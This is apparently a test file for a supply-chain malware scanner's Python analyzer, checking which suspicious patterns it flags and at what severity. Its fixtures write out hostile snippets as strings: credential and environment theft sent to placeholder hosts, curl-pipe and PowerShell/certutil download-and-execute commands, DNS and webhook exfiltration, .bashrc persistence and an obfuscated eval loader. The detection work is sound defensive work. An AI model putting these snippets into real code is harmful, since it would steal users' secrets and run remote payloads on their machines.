"""python_ast: behaviour that the sample corpus does not pin down (no timing is asserted here)."""

from __future__ import annotations

import ast

from chainwarden.analyze.code import python_ast
from chainwarden.analyze.code.python_ast import analyze_source


def _doubling(lines: int) -> str:
    """`x = f(x, x)` repeated: each line doubles the path pieces of x (2**40 characters uncut)."""
    return 'x = "ab"\n' + "x = f(x, x)\n" * lines


def test_path_pieces_stay_bounded_when_a_variable_doubles_on_every_line() -> None:
    analyzer = python_ast.PythonAnalyzer("m.py", _doubling(40))
    analyzer.visit(ast.parse(analyzer.text))
    assert len(analyzer.scope.paths["x"]) <= python_ast.MAX_PATH_TEXT + 1


def test_a_credential_path_in_the_cut_middle_of_a_long_path_is_still_found() -> None:
    source = (
        "import os\n"
        + _doubling(12)  # ~16,000 characters of pieces before the credential path
        + 'creds = os.path.join(x, os.path.expanduser("~"), ".aws", "credentials", x)\n'
        + "def steal():\n"
        + "    data = open(creds).read()\n"
        + '    os.system("curl -d " + data + " http://198.51.100.7/")\n'
    )
    report = analyze_source("pkg/mod.py", source)
    rules = {(h.rule, h.line) for h in report.hits}
    assert ("credential-file-access", 17) in rules, report.hits
    assert "credential-files" in report.capabilities


def test_a_persistence_path_in_the_cut_middle_is_still_found() -> None:
    source = (
        "import os\n"
        + _doubling(12)
        + 'rc = os.path.join(x, os.path.expanduser("~"), ".bashrc", x)\n'
        + 'with open(rc, "a") as fh:\n'
        + '    fh.write("python -c payload")\n'
    )
    report = analyze_source("pkg/__init__.py", source)
    assert any(h.rule == "persistence" and h.line == 16 for h in report.hits), report.hits


def test_a_secret_read_by_subscript_of_os_environ_reaching_the_network_is_exfiltration() -> None:
    source = (
        "import os\n"
        "import requests\n"
        "from os import environ\n"
        "def send():\n"
        '    token = os.environ["GITHUB_TOKEN"]\n'
        '    requests.post("https://collector.invalid/t", data=token)\n'
        "def send_too():\n"
        '    requests.post("https://collector.invalid/k", data=environ["AWS_SECRET_ACCESS_KEY"])\n'
        "def home():\n"
        '    requests.get("https://api.invalid/", params={"home": os.environ["HOME"]})\n'
    )
    hits = {(h.rule, h.line) for h in analyze_source("pkg/mod.py", source).hits}
    assert hits == {("secret-exfiltration", 6), ("secret-exfiltration", 8)}


def _rules(path: str, source: str) -> set[tuple[str, str, int]]:
    return {(h.rule, h.severity.value, h.line) for h in analyze_source(path, source).hits}


def test_the_whole_environment_in_any_spelling_reaching_the_network_is_exfiltration() -> None:
    for spelling in ("os.environ", "dict(os.environ)", "str(os.environ)", "os.environ.copy()",
                     "{k: v for k, v in os.environ.items()}", 'open("/proc/self/environ").read()'):
        source = f'import os\nimport requests\nrequests.post("https://c.example.test/", json={{"env": {spelling}}})\n'
        assert ("secret-exfiltration", "critical", 3) in _rules("pkg/__init__.py", source), spelling


def test_the_environment_passed_to_a_subprocess_is_not_exfiltration() -> None:
    source = 'import os, subprocess\nsubprocess.run(["git", "status"], env=dict(os.environ, LC_ALL="C"))\n'
    assert not {r for r in _rules("pkg/__init__.py", source) if r[0] == "secret-exfiltration"}


def test_an_atexit_handler_is_followed_and_a_stealer_called_only_by_the_user_is_still_malicious() -> None:
    source = (
        "import atexit, os, requests\n"
        "def bye():\n"
        '    requests.post("https://c.example.test/e", data=str(os.environ))\n'
        "atexit.register(bye)\n"
        "def sync_profile():\n"
        '    creds = open(os.path.expanduser("~/.aws/credentials")).read()\n'
        '    requests.post("https://c.example.test/c", data=creds)\n'
    )
    rules = _rules("pkg/__init__.py", source)
    assert ("secret-exfiltration", "critical", 3) in rules
    assert ("secret-exfiltration", "critical", 7) in rules  # on call: still critical (the verdict is what it does)


def test_a_host_name_sent_from_a_function_nobody_calls_at_load_time_is_low() -> None:
    source = 'import socket, requests\ndef register():\n    requests.post("https://t.example.test/", data=socket.gethostname())\n'
    assert _rules("pkg/telemetry.py", source) == {("host-beacon", "low", 3)}


def test_a_downloaded_file_saved_with_urlretrieve_then_started_is_download_and_execute() -> None:
    source = (
        "import os, subprocess, tempfile, urllib.request\n"
        "def go():\n"
        '    exe = os.path.join(tempfile.gettempdir(), "helper.exe")\n'
        '    urllib.request.urlretrieve("https://s.example.test/h.exe", exe)\n'
        "    subprocess.Popen([exe])\n"
    )
    assert ("download-and-execute", "critical", 5) in _rules("pkg/__init__.py", source)


def test_a_constant_script_written_then_run_is_not_download_and_execute() -> None:
    source = (
        "import subprocess\n"
        'with open("/tmp/step.sh", "w") as fh:\n'
        '    fh.write("echo ok\\n")\n'
        'subprocess.run(["sh", "/tmp/step.sh"])\n'
    )
    assert not {r for r in _rules("pkg/__init__.py", source) if r[0] == "download-and-execute"}


def test_windows_downloaders_and_shell_pipes_into_interpreters_are_download_and_execute() -> None:
    for command in ("curl -s https://s.example.test/x.py | python3",
                    'powershell -c "iwr https://s.example.test/a.ps1 | iex"',
                    "powershell Invoke-WebRequest https://s.example.test/a.exe -OutFile a.exe; Start-Process a.exe",
                    "certutil -urlcache -split -f https://s.example.test/a.exe a.exe",
                    "bitsadmin /transfer j https://s.example.test/a.exe C:/a.exe",
                    'mshta vbscript:Execute("CreateObject(x)")'):
        source = f"import os\nos.system({command!r})\n"
        assert ("download-and-execute", "critical", 2) in _rules("setup.py", source), command


def test_host_identity_in_a_network_command_at_install_time_is_a_beacon() -> None:
    source = 'import os\nos.system("curl https://cb.example.test/$(whoami)/$(hostname)")\n'
    assert ("host-beacon", "critical", 2) in _rules("setup.py", source)


def test_exec_of_the_package_s_own_source_is_not_dynamic_code_but_exec_of_a_written_download_is() -> None:
    own = (
        "import os\n"
        "about = {}\n"
        'with open(os.path.join(os.path.dirname(__file__), "pkg", "__version__.py")) as f:\n'
        "    exec(f.read(), about)\n"
    )
    assert not _rules("setup.py", own)
    dropped = (
        "import urllib.request\n"
        'p = "/tmp/stage2.py"\n'
        'open(p, "wb").write(urllib.request.urlopen("https://s.example.test/x").read())\n'
        "with open(p) as f:\n"
        "    exec(f.read())\n"
    )
    assert ("download-and-execute", "critical", 5) in _rules("pkg/__init__.py", dropped)


def test_reading_ssh_known_hosts_is_not_credential_access_but_a_private_key_is() -> None:
    assert not _rules("pkg/ssh.py", 'import os\ndef f():\n    return open(os.path.expanduser("~/.ssh/known_hosts")).read()\n')
    assert ("credential-file-access", "medium", 3) in _rules(
        "pkg/ssh.py", 'import os\ndef f():\n    return open(os.path.expanduser("~/.ssh/id_rsa")).read()\n')


def test_a_download_saved_under_a_built_path_and_run_through_a_variable_is_download_and_execute() -> None:
    source = (
        "import subprocess, tempfile, urllib.request\n"
        "folder = tempfile.gettempdir()\n"
        'urllib.request.urlretrieve("https://s.example.test/p.exe", folder + "\\\\package.exe")\n'
        'cmd = folder + "\\\\package.exe"\n'
        "subprocess.Popen(cmd)\n"
    )
    assert ("download-and-execute", "critical", 5) in _rules("pkg/__init__.py", source)


def test_a_downloaded_data_file_passed_as_an_argument_is_not_run() -> None:
    source = (
        "import subprocess, urllib.request\n"
        "def convert():\n"
        '    urllib.request.urlretrieve("https://models.example.test/m.bin", "model.bin")\n'
        '    subprocess.run(["converter", "--in", "model.bin", "--out", "model.onnx"])\n'
    )
    assert not {r for r in _rules("pkg/convert.py", source) if r[0] == "download-and-execute"}


def test_data_sent_through_a_connection_object_s_methods_is_a_send() -> None:
    beacon = (
        "import http.client, os, platform\n"
        'conn = http.client.HTTPConnection("192.0.2.1", timeout=5)\n'
        'conn.request("POST", "/", str({"h": platform.node(), "u": os.getenv("USER", "")}))\n'
    )
    assert ("host-beacon", "critical", 3) in _rules("setup.py", beacon)
    dump = 'import os, socket\ns = socket.socket()\ns.connect(("192.0.2.1", 80))\ns.sendall(str(os.environ).encode())\n'
    assert ("secret-exfiltration", "critical", 4) in _rules("pkg/__init__.py", dump)


def test_a_request_to_a_public_callback_service_at_load_time_is_a_beacon_and_inside_a_function_low() -> None:
    at_load = 'import requests\nrequests.get("https://abc123.oast.fun.invalid/")\n'
    assert ("host-beacon", "critical", 2) in _rules("pkg/__init__.py", at_load)
    on_call = 'import requests\ndef hook(event):\n    requests.post("https://webhook.site.invalid/x", json=event)\n'
    assert _rules("pkg/dev.py", on_call) == {("host-beacon", "low", 3)}
    shell = 'import os\nos.system("nslookup $(ls).abc.oast.fun.invalid")\n'
    assert ("host-beacon", "critical", 2) in _rules("setup.py", shell)


def test_identity_in_a_dns_name_held_in_a_variable_is_exfiltration_and_a_caller_s_name_is_not() -> None:
    beacon = (
        "import socket\n"
        'DOMAIN = "x.dns.attacker.invalid"\n'
        "name = f'{socket.gethostname().encode().hex()}.{DOMAIN}'\n"
        "socket.gethostbyname(name)\n"
    )
    assert ("dns-exfiltration", "critical", 4) in _rules("setup.py", beacon)
    helper = 'import socket\ndef srv(domain):\n    name = "_ldap._tcp." + domain\n    return socket.getaddrinfo(name, 389)\n'
    assert not _rules("pkg/dnsutil.py", helper)


def test_code_written_to_a_temporary_file_is_judged_as_code() -> None:
    source = (
        "from tempfile import NamedTemporaryFile\n"
        "import os, sys\n"
        "tmp = NamedTemporaryFile(delete=False)\n"
        'tmp.write(b"from urllib.request import urlopen; exec(urlopen(\'https://p.attacker.invalid/raw\').read())")\n'
        "tmp.close()\n"
        'os.system(f"start {sys.executable} {tmp.name}")\n'
    )
    assert ("download-and-execute", "critical", 4) in _rules("setup.py", source)
    generated = 'def gen(p):\n    with open(p, "w") as fh:\n        fh.write("import os\\nROOT = os.path.dirname(__file__)\\n__version__ = \'1\'\\n")\n'
    assert not _rules("setup.py", generated)


def test_the_output_of_a_downloader_command_run_as_a_command_is_download_and_execute() -> None:
    source = (
        "import subprocess\n"
        "banner = subprocess.getoutput('curl http://stage.attacker.invalid/p.html')\n"
        "subprocess.getoutput(str(banner))\n"
    )
    assert ("download-and-execute", "critical", 3) in _rules("setup.py", source)


def test_eval_fetched_by_evaluating_its_spelled_out_name_is_an_obfuscator_s_loader() -> None:
    source = '_a = eval("\\x65\\166\\x61\\154")\n_b = _a("\\143\\x6f\\155\\160\\151\\x6c\\145")\n_a(_b(src, "", "exec"))\n'
    rules = _rules("pkg/__init__.py", source)
    assert ("obfuscated-code", "high", 1) in rules and ("dynamic-code-execution", "critical", 3) in rules
    assert not _rules("pkg/calc.py", 'def calc(expr):\n    return eval(expr, {"__builtins__": {}})\n')


def test_a_post_to_a_hard_coded_chat_webhook_at_load_time_or_with_the_host_s_identity_is_critical() -> None:
    hook = '"https://discord.invalid/api/webhooks/123/abc"'
    at_load = f"import requests\nrequests.post({hook}, json={{'content': 'installed'}})\n"
    assert ("webhook-exfiltration", "critical", 2) in _rules("pkg/__init__.py", at_load)
    identity = f"import requests, socket\ndef hi():\n    requests.post({hook}, json={{'h': socket.gethostname()}})\n"
    assert ("webhook-exfiltration", "critical", 3) in _rules("pkg/cli.py", identity)
    report = f"import requests\ndef report(msg):\n    requests.post({hook}, json={{'content': msg}})\n"
    assert ("webhook-exfiltration", "medium", 3) in _rules("pkg/cli.py", report)


def test_an_srv_lookup_in_the_host_s_own_domain_inside_a_function_is_not_exfiltration() -> None:
    source = (
        "import socket\n"
        "import dns.resolver\n"
        "def discover(domain=None):\n"
        "    if domain is None:\n"
        "        domain = socket.getfqdn()\n"
        "    rr = f'_mqtt._tcp.{domain}'\n"
        "    return list(dns.resolver.query(rr, 'SRV'))\n"
    )
    assert not {r for r in _rules("paho/client.py", source) if r[1] == "critical"}


def test_the_environment_handed_to_a_helper_as_env_is_not_in_what_it_returns() -> None:
    source = (
        "import os, urllib.request\n"
        "from . import acquire\n"
        "def update():\n"
        "    dest = acquire.download_wheel(name='pip', env=os.environ)\n"
        "    return urllib.request.urlopen('https://index.example.test/' + dest.name)\n"
    )
    assert not {r for r in _rules("venvtool/update.py", source) if r[0] == "secret-exfiltration"}


def test_downloaded_data_reaching_a_command_through_a_cli_s_functions_on_call_is_medium() -> None:
    source = (
        "import subprocess, urllib.request\n"
        "def latest():\n"
        "    return urllib.request.urlopen('https://dist.example.test/latest.txt').read().decode()\n"
        "def callit(cmd):\n"
        "    subprocess.Popen(cmd, shell=True)\n"
        "def main():\n"
        "    callit('install-node ' + latest())\n"
        "if __name__ == '__main__':\n"
        "    main()\n"
    )
    assert ("download-and-execute", "medium", 7) in _rules("nodetool.py", source)
